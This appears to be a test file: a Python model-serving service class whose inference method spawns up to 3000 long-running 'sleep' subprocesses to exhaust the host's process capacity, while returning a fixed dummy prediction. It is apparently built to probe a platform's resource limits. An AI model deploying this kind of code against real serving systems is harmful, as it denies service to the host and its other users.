"""Starts processes until it may start no more."""

import subprocess

from model_service.python_model_service import XgSklServingBaseService


class Service(XgSklServingBaseService):
    def __init__(self, model_path):
        self.started = []

    def _inference(self, data):
        while len(self.started) < 3000:
            self.started.append(subprocess.Popen(["sleep", "300"]))

    def _postprocess(self, data):
        return [{"predictresult": 1}]
